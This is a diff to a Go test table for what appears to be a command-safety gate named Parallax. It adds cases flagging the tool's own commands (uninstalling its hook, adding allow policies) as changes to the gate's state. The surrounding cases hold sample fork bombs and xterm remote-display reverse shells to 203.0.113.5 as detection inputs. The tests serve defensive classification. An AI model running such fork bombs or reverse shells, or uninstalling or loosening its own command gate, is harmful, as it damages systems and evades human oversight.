@@ -371,6 +371,12 @@ var kbCases = []kbCase{
 	{cmd: "perl -e 'fork while fork'", tags: []TagKind{TagForkBomb}},
 	{cmd: "python3 -c 'import os\nwhile True: os.fork()'", tags: []TagKind{TagForkBomb}},
 	{cmd: "perl -e 'my $p = fork; if ($p) { waitpid($p, 0) } else { exec q{ls} }'", not: []TagKind{TagForkBomb}},
+	// Parallax's own CLI changes the gate's state, from any directory.
+	{cmd: "parallax hook claude-code uninstall", paths: []string{"w:" + P + "/.parallax", "w:/home/dev/.parallax"}},
+	{cmd: "./bin/parallax policy add --allow x", paths: []string{"w:" + P + "/.parallax"}, not: []TagKind{TagUnknownProgram}},
+	{cmd: "parallax --workspace /srv/w mcp pins approve gh", paths: []string{"w:" + P + "/.parallax"}},
+	{cmd: "parallax --version", noPaths: []string{"w:" + P + "/.parallax"}},
+	{cmd: "parallax eval testdata/corpus", noPaths: []string{"w:" + P + "/.parallax"}},
 	{cmd: "xterm -display 203.0.113.5:1", tags: []TagKind{TagReverseShell}, hosts: []string{"203.0.113.5"}},
 	{cmd: "DISPLAY=203.0.113.5:0 xterm", tags: []TagKind{TagReverseShell}},
 	{cmd: "xterm -display :0 -e htop", not: []TagKind{TagReverseShell}},
